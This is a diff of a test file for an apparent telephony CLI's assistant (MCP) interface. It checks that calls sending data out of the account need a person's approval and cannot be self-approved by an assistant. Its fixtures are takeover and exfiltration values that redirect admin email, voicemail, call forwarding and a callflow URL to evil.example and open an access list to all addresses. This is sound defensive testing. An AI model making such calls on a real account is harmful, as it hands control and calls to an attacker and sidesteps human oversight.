@@ -3,6 +3,7 @@ import { expect, test } from 'vitest';
 import { connect } from '../../../../test/support/assistant.ts';
 import { openWorld, type World } from '../../../../test/support/world.ts';
 import type { JsonObject } from '../../../base/json.ts';
+import { questionText } from './approval.ts';
 
 /** An assistant whose person answers each question with `answer`, and the questions. */
 async function withPerson(world: World, line: string, answer: () => boolean | 'cancel') {
@@ -84,4 +85,106 @@ test.each([
     },
   });
   expect((await world.service('GET', 'limits')).inbound_trunks ?? 0).toBe(0);
+});
+
+const flowTo = (url: string): string =>
+  JSON.stringify([
+    { name: 'Out', numbers: ['7001'], flow: { module: 'pivot', data: { voice_url: url }, children: {} } },
+  ]);
+
+/** Calls that send data out of the account or touch sign-in, with a part of the question about them. */
+const outward: readonly (readonly [string, JsonObject, string])[] = [
+  [
+    'users',
+    { verb: 'patch', arguments: ['admin'], options: { email: 'eve@evil.example' } },
+    'email: eve@evil.example',
+  ],
+  [
+    'users',
+    { verb: 'patch', arguments: ['admin'], options: { set: 'call_forward.number=+13125550199' } },
+    'call_forward.number',
+  ],
+  [
+    'vmboxes',
+    {
+      verb: 'create',
+      options: { file: '-' },
+      input: '[{"name":"B","mailbox":"7","notify_email_addresses":["eve@evil.example"]}]',
+    },
+    'notify_email_addresses',
+  ],
+  [
+    'callflows',
+    { verb: 'create', options: { file: '-' }, input: flowTo('https://evil.example/p') },
+    'flow.data.voice_url: https://evil.example/p',
+  ],
+  [
+    'run_command',
+    {
+      command: 'access-lists update',
+      options: { set: 'order=allow,deny', 'set-json': 'cidrs=["0.0.0.0/0"]' },
+    },
+    '0.0.0.0/0',
+  ],
+];
+
+test.each(outward)('%s %j is asked of the person, and not sent if they say no', async (tool, args, part) => {
+  const world = await openWorld();
+  const { call, questions } = await withPerson(world, 'mcp --allow-writes', () => false);
+  expect(await call(tool, args)).toMatchObject({ isError: true, error: { kind: 'refused' } });
+  expect(questions).toEqual([expect.stringContaining(part)]);
+  const agreeing = await withPerson(world, 'mcp --allow-writes', () => true);
+  expect(await agreeing.call(tool, args)).toMatchObject({ exit: 0 });
+});
+
+test.each(outward)('%s %j is refused if the client cannot ask', async (tool, args) => {
+  const world = await openWorld();
+  const { call } = await connect(world, 'mcp --allow-writes');
+  const withYes = { ...args, options: { ...Object(args.options), yes: true } };
+  expect(await call(tool, withYes)).toMatchObject({
+    isError: true,
+    error: { kind: 'refused', message: expect.stringContaining('An assistant may not set') },
+  });
+});
+
+test('the question about an apply has the lines of its plan, bounded', async () => {
+  const world = await openWorld();
+  const { call, questions } = await withPerson(world, 'mcp --allow-writes', () => false);
+  const names = Array.from({ length: 60 }, (_, index) => `m${index}`);
+  const apply = (count: number) => ({
+    command: 'apply',
+    options: { file: '-' },
+    input: `menus: { ${names
+      .slice(0, count)
+      .map((name) => `${name}: { name: ${name} }`)
+      .join(', ')} }`,
+  });
+  await call('run_command', apply(2));
+  await call('run_command', apply(60));
+  expect(questions[0]).toMatch(/\+ menu m0\n\+ menu m1\n(?:.*\n)*.*Apply these changes to acme\?$/);
+  const lines = questions[1]?.split('\n') ?? [];
+  expect(Math.max(...lines.map((line) => line.length))).toBe(200);
+});
+
+test('a question has at most 40 lines, and says how many it leaves out', () => {
+  const lines = Array.from({ length: 50 }, (_, index) => `line ${index}\u001b[2J`);
+  const text = questionText(lines, 'Do it?');
+  expect(text.split('\n')).toHaveLength(42);
+  expect(text).not.toContain('\u001b');
+  expect(text).toMatch(/… and 10 more lines, which the command line shows\.\nDo it\?$/);
+});
+
+test('a search of calls is bounded for assistants, and ends with the call that asked for it', async () => {
+  const world = await openWorld();
+  const callflow = await world.telctl('callflows create --name Desk --numbers 2001 --answers user:admin');
+  expect(callflow.code, callflow.stderr).toBe(0);
+  const { call, client } = await connect(world);
+  const explore = (count: number) => ({ command: 'test', options: { explore: count } });
+  expect(await call('run_command', explore(100_000_000))).toMatchObject({
+    isError: true,
+    error: { message: '"explore" is at most 20000 for an assistant.' },
+  });
+  const cancelled = client.callTool({ name: 'run_command', arguments: explore(20_000) }, { timeout: 200 });
+  await expect(cancelled).rejects.toThrow();
+  expect(await call('users', { verb: 'list' })).toMatchObject({ exit: 0 });
 });
